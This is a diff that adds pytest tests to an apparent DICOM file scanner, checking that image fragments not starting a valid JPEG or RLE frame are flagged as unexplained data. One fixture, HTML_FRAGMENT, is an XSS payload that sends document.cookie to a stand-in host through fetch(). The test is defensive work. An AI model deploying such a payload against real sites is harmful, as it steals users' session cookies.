@@ -231,6 +231,35 @@ def test_payload_in_pixel_fragments_is_high(fragments: tuple[bytes, ...]) -> Non
     assert Severity.HIGH in found(data).values()
 
 
+HTML_FRAGMENT = b"<img src=x onerror=\"fetch('//x.example/'+document.cookie)\">"
+
+
+@pytest.mark.parametrize(
+    "fragments",
+    [(HTML_FRAGMENT,), (TINY_JPEG, HTML_FRAGMENT), (TINY_JPEG, b"<p>hi</p>" + bytes(64))],
+)
+def test_a_fragment_that_must_start_a_frame_but_does_not_is_judged(
+    fragments: tuple[bytes, ...],
+) -> None:
+    data = dcm(dataset(pixel_element=_encapsulated(*fragments)), ts=JPEG_BASELINE)
+    assert "dicom.unexplained_data" in found(data)
+
+
+def test_a_frame_split_over_fragments_is_not_a_finding() -> None:
+    cut = len(TINY_JPEG) // 2 + 1
+    data = dcm(dataset(pixel_element=_encapsulated(TINY_JPEG[:cut], TINY_JPEG[cut:])),
+               ts=JPEG_BASELINE)  # fmt: skip
+    assert inspect_bytes("study.dcm", data).verdict is Verdict.CLEAN
+
+
+def test_rle_fragments_must_carry_an_rle_header() -> None:
+    rle = struct.pack("<16I", 1, 64, *([0] * 14)) + bytes([0xF1, 7]) + bytes(14)
+    clean = dcm(dataset(pixel_element=_encapsulated(rle)), ts=b"1.2.840.10008.1.2.5")
+    assert inspect_bytes("study.dcm", clean).verdict is Verdict.CLEAN
+    evil = dcm(dataset(pixel_element=_encapsulated(rle, HTML_FRAGMENT)), ts=b"1.2.840.10008.1.2.5")
+    assert found(evil).get("dicom.unexplained_data") is Severity.HIGH
+
+
 def test_an_offset_table_that_points_nowhere_is_judged() -> None:
     table = struct.pack("<II", 0, 10_000_000)
     data = dcm(dataset(pixel_element=_encapsulated(TINY_JPEG, TINY_JPEG, table=table)),
